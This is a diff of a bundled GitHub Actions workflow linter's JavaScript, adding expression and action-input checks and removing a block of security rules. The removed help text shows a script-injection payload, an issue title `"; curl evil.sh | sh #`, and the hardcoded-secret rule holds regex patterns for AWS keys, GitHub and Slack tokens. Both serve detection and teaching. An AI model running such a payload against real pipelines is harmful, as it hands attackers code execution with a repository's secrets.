@@ -9,7 +9,7 @@ __webpack_require__.a(__webpack_module__, async (__webpack_handle_async_dependen
 __webpack_require__.r(__webpack_exports__);
 /* harmony import */ var _host_actions_host_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(428);
 /* harmony import */ var _host_run_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4956);
-/* harmony import */ var _core_commands_validate_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(7585);
+/* harmony import */ var _core_commands_validate_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5265);
 /** Entry of actions/workflows-validation: builds the runner host and runs the validate command. */
 
 
@@ -21,7 +21,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 7585:
+/***/ 5265:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 
 
@@ -732,14 +732,29 @@ async function writeFileAtomic(target, content, mode = 0o644) {
 }
 
 ;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/internal/parser-messages.js
+/**
+ * Functions that exist but only at some keys (actionlint's SpecialFunctionNames): the parser
+ * calls them unrecognised elsewhere.
+ */
+const SPECIAL_FUNCTIONS = new Map([
+    ['always', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
+    ['cancelled', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
+    ['failure', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
+    ['success', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
+    [
+        'hashfiles',
+        ['jobs.<job_id>.steps.continue-on-error', 'jobs.<job_id>.steps.env', 'jobs.<job_id>.steps.if', 'jobs.<job_id>.steps.name', 'jobs.<job_id>.steps.run', 'jobs.<job_id>.steps.timeout-minutes', 'jobs.<job_id>.steps.with', 'jobs.<job_id>.steps.working-directory']
+    ]
+]);
 function familyOf(problem) {
     if (problem.stage === 'read')
         return 'read';
     const m = problem.message;
     if (/^Unrecognized named-value/.test(m))
         return 'context';
-    if (/^Unrecognized function/.test(m))
-        return 'function';
+    const fn = /^Unrecognized function: '(.*)'$/.exec(m);
+    if (fn)
+        return SPECIAL_FUNCTIONS.has(fn[1].toLowerCase()) ? 'function-not-allowed' : 'function';
     if (/^(Unexpected end of expression|Unexpected symbol|Exceeded max expression|Too (few|many) parameters|Even number of parameters|The expression is not closed|The directive '.*' is not allowed)/.test(m)) {
         return 'expression';
     }
@@ -842,8 +857,8 @@ function echoesOf(all) {
 
 // EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/index.js
 var dist = __webpack_require__(2657);
-// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/index.js + 27 modules
-var expressions_dist = __webpack_require__(2506);
+// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/index.js + 15 modules
+var expressions_dist = __webpack_require__(4058);
 // EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/ast.js
 var ast = __webpack_require__(2049);
 // EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/template-token.js + 1 modules
@@ -873,6 +888,12 @@ function expressionSites(token, bareIf = false) {
         return sites;
     }
     for (const [, t] of template_token/* TemplateToken */.s.traverse(token, true)) {
+        if ((0,dist/* isString */.Kg)(t) && t.value.includes('${{')) {
+            // The parser leaves a whole value as a string when one of its `${{ }}` fails: the others
+            // are still expressions, and one fault must not hide the findings in them.
+            sites.push(...stringSites(t));
+            continue;
+        }
         if (!(0,dist/* isBasicExpression */.hR)(t))
             continue;
         for (const o of t.originalExpressions ?? [t]) {
@@ -938,6 +959,60 @@ function contextChains(site) {
     };
     visit(tree);
     return chains;
+}
+/**
+ * The `${{ }}` of a string the parser did not convert (one of them failed), positioned as the
+ * parser positions them (its template reader's parseScalar): each still reaches the rules.
+ */
+function stringSites(token) {
+    const sites = [];
+    const range = token.range;
+    if (!range)
+        return sites;
+    const single = range.start.line === range.end.line;
+    const raw = single ? token.value : (token.source ?? token.value);
+    const quoteOffset = single ? (token.source ?? raw).indexOf('${{') - raw.indexOf('${{') : 0;
+    let start = raw.indexOf('${{');
+    while (start >= 0) {
+        let end = -1;
+        let inString = false;
+        let i = start + 3;
+        for (; i < raw.length; i++) {
+            if (raw[i] === "'")
+                inString = !inString;
+            else if (!inString && raw[i] === '}' && raw[i - 1] === '}') {
+                end = i;
+                break;
+            }
+        }
+        if (end < 0)
+            break;
+        const inner = raw.slice(start + 3, end - 1);
+        const text = inner.trim();
+        const lead = inner.length - inner.trimStart().length;
+        if (text) {
+            if (single)
+                sites.push({ text, at: { line: range.start.line, column: range.start.column + start + quoteOffset + 3 + lead } });
+            else {
+                const before = raw.slice(0, start);
+                const lineStart = before.lastIndexOf('\n');
+                sites.push({ text, at: { line: range.start.line + before.split('\n').length, column: start - lineStart + 3 + lead } });
+            }
+        }
+        start = raw.indexOf('${{', end + 1);
+    }
+    return sites;
+}
+/** Parses an expression site; undefined when it does not parse (the syntax rules report that). */
+function parseSite(site) {
+    try {
+        const tree = new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(site.text).lex().tokens, CONTEXTS, []).parse();
+        const toPos = (p) => p.line === 0 ? { line: site.at.line, column: site.at.column + p.column } : { line: site.at.line + p.line, column: p.column + 1 };
+        return { tree, toPos };
+    }
+    catch {
+        return undefined;
+    }
 }
 
 ;// CONCATENATED MODULE: ./.build/src/core/suggest.js
@@ -1229,6 +1304,14 @@ function buildAction(file, root) {
         root
     };
 }
+/**
+ * A `uses:` of this repository at the running commit: workspace-relative `./path`, or GitHub's
+ * self-repository reference `$/path` (resolved at the workflow's own commit, no checkout needed).
+ */
+function isLocalUses(uses) {
+    const value = uses?.trim();
+    return !!value && (value.startsWith('./') || value.startsWith('$/'));
+}
 
 ;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-unknown-job.js
 
@@ -1438,8 +1521,46 @@ const needs_outputs_reference_rule = {
 };
 /* harmony default export */ const needs_outputs_reference = (needs_outputs_reference_rule);
 
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/action-inputs.js
+/**
+ * `with:` of a step against the inputs an action declares: shared by PG114 (local actions, read from
+ * the workspace) and PG150 (popular actions, from the stored table of their action.yml).
+ */
+
+
+/**
+ * Longest name a "did you mean" is searched for: the search compares every character with every
+ * candidate's, and a 200 KB key of a hostile file would take seconds. No typo is that long.
+ */
+const MAX_SUGGESTED_NAME = 100;
+/** ` (did you mean "x"?)` for a near miss of a name of reasonable length, else an empty string. */
+function suggestName(name, candidates) {
+    return name.length > MAX_SUGGESTED_NAME ? '' : didYouMean(name, candidates);
+}
+/**
+ * Reports `with:` keys that `inputs` does not declare (with `unknownLevel`), required inputs left
+ * out, and deprecated inputs given (as warnings); input names are case-insensitive. `action` names
+ * the action in messages.
+ */
+function checkStepInputs(context, file, step, inputs, action, unknownLevel) {
+    const declared = new Map([...inputs.keys()].map((k) => [k.toLowerCase(), k]));
+    for (const [key, entry] of step.with) {
+        const name = declared.get(key.toLowerCase());
+        if (name === undefined) {
+            context.report(file.file, entry.key, `input "${key}" is not declared by ${action} (inputs: ${nameList(declared.values())})${suggestName(key, declared.values())}`, unknownLevel);
+        }
+        else if (inputs.get(name)?.deprecated) {
+            context.report(file.file, entry.key, `input "${key}" of ${action} is deprecated; see the action's README for its replacement`, 'warning');
+        }
+    }
+    const given = new Set([...step.with.keys()].map((k) => k.toLowerCase()));
+    const missing = [...inputs].filter(([name, input]) => input.required && !given.has(name.toLowerCase())).map(([name]) => name);
+    if (missing.length) {
+        context.report(file.file, step.withKey ?? step.uses, `required input${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${action} not given`, unknownLevel);
+    }
+}
+
 ;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/local-action-inputs.js
-/** PG114 local-action-inputs: `with:` of a local action against the inputs its action.yml declares. */
 
 
 const local_action_inputs_rule = {
@@ -1447,27 +1568,18 @@ const local_action_inputs_rule = {
     name: 'local-action-inputs',
     level: 'error',
     description: "`with:` keys that a local action's `action.yml` does not declare, and required inputs (without a default) left out.",
-    help: 'For `uses: ./path/to/action`, the inputs are read from `path/to/action/action.yml` in the workspace. An undeclared key is ignored by the runner (with only a warning in the log), so a misspelt input silently takes its default; a required input without a default that is not given is usually a bug. Input names are case-insensitive.',
+    help: 'For `uses: ./path/to/action` (or the self-repository reference `uses: $/path/to/action`), the inputs are read from `path/to/action/action.yml` in the workspace. An undeclared key is ignored by the runner (with only a warning in the log), so a misspelt input silently takes its default; a required input without a default that is not given is usually a bug. Input names are case-insensitive.',
     create(context) {
         return {
             step(step, _owner, file) {
                 const uses = step.uses?.value;
-                if (!uses?.startsWith('./'))
+                if (!isLocalUses(uses))
                     return;
                 const action = context.project.local(uses);
                 if (action?.kind !== 'action')
                     return;
-                const declared = new Map([...action.inputs.keys()].map((k) => [k.toLowerCase(), k]));
-                for (const [key, entry] of step.with) {
-                    if (declared.has(key.toLowerCase()))
-                        continue;
-                    context.report(file.file, entry.key, `input "${key}" is not declared by ${action.file.path} (inputs: ${nameList(declared.values())})${didYouMean(key, declared.values())}`);
-                }
-                const given = new Set([...step.with.keys()].map((k) => k.toLowerCase()));
-                const missing = [...action.inputs].filter(([name, input]) => input.required && !input.hasDefault && !given.has(name.toLowerCase())).map(([name]) => name);
-                if (missing.length) {
-                    context.report(file.file, step.withKey ?? step.uses, `required input${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${action.file.path} not given`);
-                }
+                const inputs = new Map([...action.inputs].map(([name, input]) => [name, { required: input.required && !input.hasDefault }]));
+                checkStepInputs(context, file, step, inputs, action.file.path);
             }
         };
     }
@@ -1478,12 +1590,13 @@ const local_action_inputs_rule = {
 /** PG115 reusable-workflow-call: inputs and secrets passed to a local reusable workflow. */
 
 
+
 const reusable_workflow_call_rule = {
     id: 'PG115',
     name: 'reusable-workflow-call',
     level: 'error',
     description: 'A call of a local reusable workflow with inputs or secrets its `on.workflow_call` does not declare, required ones missing, or no `workflow_call` trigger at all.',
-    help: 'For `uses: ./.github/workflows/x.yml`, GitHub checks `with:` and `secrets:` against the `on.workflow_call` of the called workflow when the run starts, and refuses the run when an input or secret is unknown or a required one (without a default) is missing. This finds it before the push. `secrets: inherit` passes every secret.',
+    help: 'For `uses: ./.github/workflows/x.yml` (or `$/.github/workflows/x.yml`), GitHub checks `with:` and `secrets:` against the `on.workflow_call` of the called workflow when the run starts, and refuses the run when an input or secret is unknown or a required one (without a default) is missing. This finds it before the push. `secrets: inherit` passes every secret.',
     create(context) {
         const compare = (file, what, given, declared, called, anchor) => {
             const names = new Map([...declared.keys()].map((k) => [k.toLowerCase(), k]));
@@ -1508,7 +1621,7 @@ const reusable_workflow_call_rule = {
         return {
             jobPre(job, workflow) {
                 const uses = job.uses;
-                if (!uses?.value.startsWith('./'))
+                if (!uses || !isLocalUses(uses.value))
                     return;
                 const called = context.project.local(uses.value);
                 if (called?.kind !== 'workflow')
@@ -1527,1184 +1640,1285 @@ const reusable_workflow_call_rule = {
 };
 /* harmony default export */ const reusable_workflow_call = (reusable_workflow_call_rule);
 
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/index.js
-
-
-
-
-
-
-
-
-
-
-
-const family = {
-    name: 'syntax',
-    title: 'Syntax and types',
-    description: 'What GitHub would refuse or misread: YAML and schema, expressions and their contexts, job graph, inputs of local actions and reusable workflows.',
-    rules: [
-        unreadable_file,
-        workflow_syntax,
-        expression_syntax,
-        unknown_context,
-        unknown_function,
-        needs_unknown_job,
-        needs_cycle,
-        step_outputs_reference,
-        needs_outputs_reference,
-        local_action_inputs,
-        reusable_workflow_call
-    ]
-};
-/* harmony default export */ const syntax = (family);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/index.js
-const scripts_family = {
-    name: 'scripts',
-    title: 'Scripts',
-    description: 'The shell scripts of `run:` steps.',
-    rules: []
-};
-/* harmony default export */ const scripts = (scripts_family);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/unpinned-action.js
-const SHA = /^[0-9a-f]{40}$/;
-const DIGEST = /@sha256:[0-9a-f]{64}$/;
-/** Whether `allow.owners` or `allow.actions` (`owner/repo`, `owner/*`, `owner/repo/path`) trusts this action. */
-function allowed(action, settings) {
-    const lower = action.toLowerCase();
-    const owner = lower.split('/')[0];
-    if (settings.allowOwners.some((o) => o.toLowerCase() === owner))
-        return true;
-    return settings.allowActions.some((pattern) => {
-        const p = pattern.toLowerCase().replace(/@.*$/, '');
-        const re = new RegExp(`^${p.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[^/]*')}(?:/.*)?$`);
-        return re.test(lower);
-    });
-}
-const unpinned_action_rule = {
-    id: 'PG201',
-    name: 'unpinned-action',
-    level: 'warning',
-    description: 'A `uses:` of another repository not pinned to a full 40-character commit SHA, or a `docker://` image not pinned by `@sha256:` digest.',
-    help: 'A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action\'s repository, and the next run executes the new code with your token and secrets (as in the tj-actions/changed-files compromise). Pin `owner/repo@<40-hex sha> # v4.2.2` and let Dependabot or Renovate update the SHA; pin `docker://image@sha256:<digest>`. Local actions (`./…`) are part of the repository and exempt. Every owner is third-party here, `actions/*` and `github/*` included; trust owners or actions in `.github/phase-gates.yml` with `allow: { owners: [acme], actions: [acme/deploy] }`.',
-    create(context) {
-        const check = (file, uses) => {
-            const value = uses?.value.trim();
-            if (!uses || !value || value.startsWith('./') || value.includes('${{'))
-                return;
-            if (value.startsWith('docker://')) {
-                const image = value.slice('docker://'.length);
-                if (DIGEST.test(image) || allowed(image, context.settings))
-                    return;
-                context.report(file, uses, `image "${value}" is not pinned by digest; use docker://${image.replace(/@.*$/, '').replace(/:[^/:]*$/, '')}@sha256:<digest>`);
-                return;
-            }
-            const at = value.lastIndexOf('@');
-            const action = at < 0 ? value : value.slice(0, at);
-            const ref = at < 0 ? '' : value.slice(at + 1);
-            if (SHA.test(ref) || allowed(action, context.settings))
-                return;
-            const pinned = ref ? `${action}@<40-hex commit sha> # ${ref}` : `${action}@<40-hex commit sha>`;
-            context.report(file, uses, `"${value}" is not pinned to a full commit SHA${ref ? ` ("${ref}" can be moved)` : ''}; use ${pinned}`);
-        };
-        return {
-            jobPre(job, workflow) {
-                check(workflow.file, job.uses);
-            },
-            step(step, _owner, file) {
-                check(file.file, step.uses);
-            }
-        };
-    }
-};
-/* harmony default export */ const unpinned_action = (unpinned_action_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/mutable-image.js
-/** PG205 mutable-image: container, service and `docker://` images with `:latest` or no tag. */
-
-/** The image of `container:` (a string, or a mapping with `image:`) or of a service. */
-function imageOf(token) {
-    if (!token)
-        return undefined;
-    if ((0,dist/* isString */.Kg)(token))
-        return token;
-    if (!(0,dist/* isMapping */.pi)(token))
-        return undefined;
-    for (const pair of token)
-        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === 'image')
-            return pair.value;
-    return undefined;
-}
-/** What is mutable about an image reference: `:latest`, no tag, or nothing (a version tag or a digest). */
-function mutability(image) {
-    if (!image || image.includes('${{') || image.includes('@'))
-        return undefined;
-    const last = image.split('/').pop() ?? '';
-    const colon = last.indexOf(':');
-    if (colon < 0)
-        return 'untagged';
-    return last.slice(colon + 1).toLowerCase() === 'latest' ? 'latest' : undefined;
-}
-const mutable_image_rule = {
-    id: 'PG205',
-    name: 'mutable-image',
-    level: 'warning',
-    description: 'A `container:`, `services:` or `docker://` image with the `:latest` tag or no tag at all.',
-    help: 'An image without a tag means `:latest`, which points to whatever was pushed last: the job changes under you between two runs, and whoever can push the image controls what runs. Use a version tag (`postgres:16.4`) or, better, a digest (`postgres@sha256:…`, which PG201 asks for `docker://` steps).',
-    create(context) {
-        const check = (file, token, what) => {
-            if (!token || !(0,dist/* isString */.Kg)(token))
-                return;
-            const image = token.value.trim().replace(/^docker:\/\//, '');
-            const kind = mutability(image);
-            if (!kind)
-                return;
-            const node = { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
-            const why = kind === 'latest' ? 'uses the mutable tag :latest' : 'has no tag, so it means :latest';
-            context.report(file, node, `${what} image "${image}" ${why}; pin a version tag or a digest (@sha256:…)`);
-        };
-        return {
-            jobPre(job, workflow) {
-                check(workflow.file, imageOf(job.container), `container`);
-                if (job.services && (0,dist/* isMapping */.pi)(job.services)) {
-                    for (const pair of job.services) {
-                        const name = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : '';
-                        check(workflow.file, imageOf(pair.value), `service "${name}"`);
-                    }
-                }
-            },
-            step(step, _owner, file) {
-                const uses = step.uses?.value ?? '';
-                if (!uses.startsWith('docker://'))
-                    return;
-                const token = step.token.find('uses');
-                check(file.file, token, 'step');
-            }
-        };
-    }
-};
-/* harmony default export */ const mutable_image = (mutable_image_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/index.js
-
-
-const supply_chain_family = {
-    name: 'supply-chain',
-    title: 'Supply chain',
-    description: 'What a workflow runs that others wrote: actions and images, their pins and versions.',
-    rules: [
-        unpinned_action,
-        mutable_image
-    ]
-};
-/* harmony default export */ const supply_chain = (supply_chain_family);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-input-in-script.js
-/** PG200 untrusted-input-in-script: attacker-controlled event data expanded in `run:` or github-script's `script:`. */
-
-
+// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/data/expressiondata.js
+var expressiondata = __webpack_require__(1674);
+// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/lexer.js
+var lexer = __webpack_require__(2083);
+// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/errors.js
+var errors = __webpack_require__(2830);
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/types.js
 /**
- * The untrusted inputs of actionlint's expression check and GitHub's security hardening guide:
- * text any user (or fork) controls. `*` is any element of an array.
- */
-const UNTRUSTED = [
-    'github.event.issue.title',
-    'github.event.issue.body',
-    'github.event.pull_request.title',
-    'github.event.pull_request.body',
-    'github.event.pull_request.head.ref',
-    'github.event.pull_request.head.label',
-    'github.event.pull_request.head.repo.default_branch',
-    'github.event.discussion.title',
-    'github.event.discussion.body',
-    'github.event.comment.body',
-    'github.event.review.body',
-    'github.event.review_comment.body',
-    'github.event.pages.*.page_name',
-    'github.event.commits.*.message',
-    'github.event.commits.*.author.email',
-    'github.event.commits.*.author.name',
-    'github.event.head_commit.message',
-    'github.event.head_commit.author.email',
-    'github.event.head_commit.author.name',
-    'github.event.workflow_run.head_branch',
-    'github.event.workflow_run.head_commit.message',
-    'github.event.workflow_run.head_commit.author.email',
-    'github.event.workflow_run.head_commit.author.name',
-    'github.event.workflow_run.head_repository.description',
-    'github.head_ref'
-].map((p) => p.split('.'));
-/** The untrusted path a chain reads (as written in the list), if any. */
-function untrusted(segments) {
-    const names = segments.map((s) => s.name.toLowerCase());
-    for (const pattern of UNTRUSTED) {
-        if (names.length < pattern.length)
-            continue;
-        if (pattern.every((p, i) => (p === '*' ? true : names[i] === p)))
-            return pattern.join('.');
-    }
-    return undefined;
-}
-/** The value of `key` in a step's mapping. */
-function untrusted_input_in_script_valueOf(token, key) {
-    if (!token || !(0,dist/* isMapping */.pi)(token))
-        return undefined;
-    for (const pair of token)
-        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
-            return pair.value;
-    return undefined;
-}
-const untrusted_input_in_script_rule = {
-    id: 'PG200',
-    name: 'untrusted-input-in-script',
-    level: 'error',
-    description: 'Untrusted event data (titles, bodies, head refs, commit messages, `github.head_ref`, …) expanded with `${{ }}` in `run:` or in `actions/github-script`\'s `script:`.',
-    help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The list of untrusted inputs is the one of actionlint and GitHub\'s security hardening guide.',
-    create(context) {
-        return {
-            step(step, _owner, file) {
-                const sites = [];
-                const run = untrusted_input_in_script_valueOf(step.token, 'run');
-                if (run)
-                    sites.push({ where: 'run:', token: run });
-                if (/^actions\/github-script@/i.test(step.uses?.value ?? '')) {
-                    const script = untrusted_input_in_script_valueOf(untrusted_input_in_script_valueOf(step.token, 'with'), 'script');
-                    if (script)
-                        sites.push({ where: "actions/github-script's script:", token: script });
-                }
-                for (const { where, token } of sites) {
-                    for (const site of expressionSites(token)) {
-                        for (const chain of contextChains(site)) {
-                            const path = untrusted(chain.segments);
-                            if (!path)
-                                continue;
-                            const shown = chain.segments.map((s) => s.name).join('.');
-                            context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
-                        }
-                    }
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const untrusted_input_in_script = (untrusted_input_in_script_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-checkout.js
-/** PG203 untrusted-checkout: a privileged `pull_request_target` or `workflow_run` job checks out the untrusted head. */
-
-
-/** Expressions that name the code of the pull request or of the run that triggered `workflow_run`. */
-const HEAD = [
-    'github.event.pull_request.head.sha',
-    'github.event.pull_request.head.ref',
-    'github.event.pull_request.merge_commit_sha',
-    'github.head_ref',
-    'github.event.workflow_run.head_sha',
-    'github.event.workflow_run.head_branch'
-];
-const PRIVILEGED = ['pull_request_target', 'workflow_run'];
-const untrusted_checkout_rule = {
-    id: 'PG203',
-    name: 'untrusted-checkout',
-    level: 'error',
-    description: 'A `pull_request_target` or `workflow_run` workflow whose job checks out the untrusted head (`actions/checkout` with a `ref:` of the pull request head or `refs/pull/…/merge`).',
-    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a write token, precisely so that they can act on pull requests from forks. Checking out the head of the pull request there and then building, testing or even installing it runs the attacker\'s code with those privileges ("pwn request"). Use `pull_request` for anything that runs the contributed code, and keep the privileged workflow to trusted steps (labelling, commenting on results it downloads as data).',
-    create(context) {
-        return {
-            step(step, owner, file) {
-                if (file.kind !== 'workflow' || !('id' in owner))
-                    return;
-                const trigger = PRIVILEGED.find((t) => file.on.has(t));
-                if (!trigger || !/^actions\/checkout@/i.test(step.uses?.value ?? ''))
-                    return;
-                const ref = step.with.get('ref');
-                if (!ref)
-                    return;
-                let found;
-                for (const site of expressionSites(ref.value)) {
-                    for (const chain of contextChains(site)) {
-                        const path = chain.segments.map((s) => s.name.toLowerCase()).join('.');
-                        if (HEAD.some((h) => path === h || path.startsWith(`${h}.`)))
-                            found ??= { what: chain.segments.map((s) => s.name).join('.'), at: chain.segments[0] };
-                    }
-                }
-                const text = (0,dist/* isString */.Kg)(ref.value) ? ref.value.value : (0,dist/* isBasicExpression */.hR)(ref.value) ? ref.value.toDisplayString() : '';
-                if (!found && /refs\/pull\/[^/]+\/(merge|head)/.test(text)) {
-                    const r = ref.value.range;
-                    found = { what: 'refs/pull/…', at: { at: r ? { line: r.start.line, column: r.start.column } : ref.key.at } };
-                }
-                if (!found)
-                    return;
-                context.report(file.file, found.at, `job "${owner.id.value}" of a ${trigger} workflow checks out the untrusted head (${found.what}) with the base repository's secrets and write token; run contributed code under pull_request instead`);
-            }
-        };
-    }
-};
-/* harmony default export */ const untrusted_checkout = (untrusted_checkout_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/index.js
-
-
-const injection_family = {
-    name: 'injection',
-    title: 'Injection and triggers',
-    description: 'Untrusted data reaching code: expressions expanded in scripts, untrusted checkouts under privileged triggers.',
-    rules: [
-        untrusted_input_in_script,
-        untrusted_checkout
-    ]
-};
-/* harmony default export */ const injection = (injection_family);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/missing-permissions.js
-/** PG202 missing-permissions: jobs left with the default `GITHUB_TOKEN` permissions, and `write-all`. */
-
-function writeAll(token) {
-    if (!token || !(0,dist/* isString */.Kg)(token) || token.value.trim() !== 'write-all')
-        return undefined;
-    return { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
-}
-const missing_permissions_rule = {
-    id: 'PG202',
-    name: 'missing-permissions',
-    level: 'warning',
-    description: 'A job with no `permissions:` in a workflow with none at the top, or `permissions: write-all` anywhere.',
-    help: 'Without `permissions:`, the `GITHUB_TOKEN` gets the repository\'s default, which on older repositories and organizations is read and write on everything; any compromised step can then push code, create releases or approve pull requests. Declare the least the workflow needs at the top (`permissions: { contents: read }`, or `{}`) and widen per job where a job needs more. `write-all` grants every scope: list the scopes instead. Workflows triggered only by `workflow_call` take their permissions from the caller and are not checked for a missing key.',
-    create(context) {
-        return {
-            workflowPre(workflow) {
-                const top = workflow.permissions;
-                const all = writeAll(top?.value);
-                if (all)
-                    context.report(workflow.file, all, 'permissions: write-all grants the token every scope; list only the scopes the workflow needs', 'error');
-                if (top)
-                    return;
-                if (workflow.on.size > 0 && [...workflow.on.keys()].every((k) => k === 'workflow_call'))
-                    return;
-                for (const job of workflow.jobs) {
-                    if (job.permissions)
-                        continue;
-                    context.report(workflow.file, job.id, `job "${job.id.value}" has no permissions: and the workflow sets none, so its token gets the repository default (possibly write on everything); set permissions: at the top of the workflow (e.g. contents: read) or on the job`);
-                }
-            },
-            jobPre(job, workflow) {
-                const all = writeAll(job.permissions);
-                if (all)
-                    context.report(workflow.file, all, `job "${job.id.value}" has permissions: write-all, which grants the token every scope; list only the scopes the job needs`, 'error');
-            }
-        };
-    }
-};
-/* harmony default export */ const missing_permissions = (missing_permissions_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/hardcoded-secret.js
-/** PG204 hardcoded-secret: credentials written into a workflow or action file. */
-
-/** Credentials recognisable by their shape; the message names the kind, never the value. */
-const KINDS = [
-    { kind: 'an AWS access key id', re: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/g },
-    { kind: 'a GitHub token', re: /\bgh[opsu]_[A-Za-z0-9]{36,}\b/g },
-    { kind: 'a GitHub fine-grained token', re: /\bgithub_pat_[A-Za-z0-9_]{22,}\b/g },
-    { kind: 'a private key', re: /-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----/g },
-    { kind: 'a Slack token', re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g },
-    { kind: 'a Slack webhook URL', re: /https:\/\/hooks\.slack\.com\/services\/T[A-Za-z0-9]+\/B[A-Za-z0-9]+\/[A-Za-z0-9]+/g }
-];
-/** Keys whose value is a credential: `*_KEY`, `*_TOKEN`, `*_SECRET` (or `-key`, …) and `*PASSWORD*`. */
-const SECRET_KEY = /(?:^|[_-])(?:key|token|secret)$|password|passwd/i;
-/** Shannon entropy in bits per character. */
-function entropy(s) {
-    const counts = new Map();
-    for (const c of s)
-        counts.set(c, (counts.get(c) ?? 0) + 1);
-    let bits = 0;
-    for (const n of counts.values())
-        bits -= (n / s.length) * Math.log2(n / s.length);
-    return bits;
-}
-/** A literal that looks generated rather than written: long, no spaces, mixed letters and digits, high entropy. */
-function highEntropy(value) {
-    const v = value.trim();
-    if (v.length < 16 || /\s/.test(v) || v.includes('${{'))
-        return false;
-    if (!/[A-Za-z]/.test(v) || !/\d/.test(v))
-        return false;
-    return entropy(v) >= 3.5;
-}
-function lineColumn(text, offset) {
-    const before = text.slice(0, offset);
-    const line = before.split('\n').length;
-    return { line, column: offset - before.lastIndexOf('\n') };
-}
-const hardcoded_secret_rule = {
-    id: 'PG204',
-    name: 'hardcoded-secret',
-    level: 'error',
-    description: 'A credential written into the file: AWS access key ids, GitHub tokens, private keys, Slack tokens, or a high-entropy literal assigned to a `*_KEY`, `*_TOKEN`, `*_SECRET` or `*PASSWORD*` key.',
-    help: 'Everything in a workflow file is readable by everyone who can read the repository, forever (in its history too), and is not masked in logs. Revoke the credential, remove it, and pass it as a secret (`${{ secrets.NAME }}`) or, better, use OIDC (`aws-actions/configure-aws-credentials` with `role-to-assume`). Literal values of secret-named keys are reported when they look generated (16 characters or more, letters and digits, high entropy); expressions are never reported. The finding names the kind and the key, never the value.',
-    create(context) {
-        return {
-            file(parsed) {
-                const text = parsed.source.text ?? '';
-                const shaped = new Set();
-                for (const { kind, re } of KINDS) {
-                    for (const m of text.matchAll(re)) {
-                        const at = lineColumn(text, m.index ?? 0);
-                        shaped.add(at.line);
-                        context.report(parsed.source, { at }, `${kind} is written into the file; revoke it and pass it as a secret (secrets.NAME) instead`);
-                    }
-                }
-                if (!parsed.model)
-                    return;
-                const visit = (token, where) => {
-                    if ((0,dist/* isSequence */.wZ)(token)) {
-                        let i = 0;
-                        for (const item of token)
-                            visit(item, `${where}[${i++}]`);
-                        return;
-                    }
-                    if (!(0,dist/* isMapping */.pi)(token))
-                        return;
-                    for (const pair of token) {
-                        if (!(0,dist/* isString */.Kg)(pair.key))
-                            continue;
-                        const key = pair.key.value;
-                        const value = pair.value;
-                        if ((0,dist/* isString */.Kg)(value) && SECRET_KEY.test(key) && highEntropy(value.value)) {
-                            const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : { line: 1, column: 1 };
-                            if (!shaped.has(at.line))
-                                context.report(parsed.source, { at }, `"${where ? `${where}.` : ''}${key}" is assigned a literal high-entropy value that looks like a credential; pass it as a secret (secrets.NAME) instead`);
-                        }
-                        else
-                            visit(value, where ? `${where}.${key}` : key);
-                    }
-                };
-                visit(parsed.model.root, '');
-            }
-        };
-    }
-};
-/* harmony default export */ const hardcoded_secret = (hardcoded_secret_rule);
-
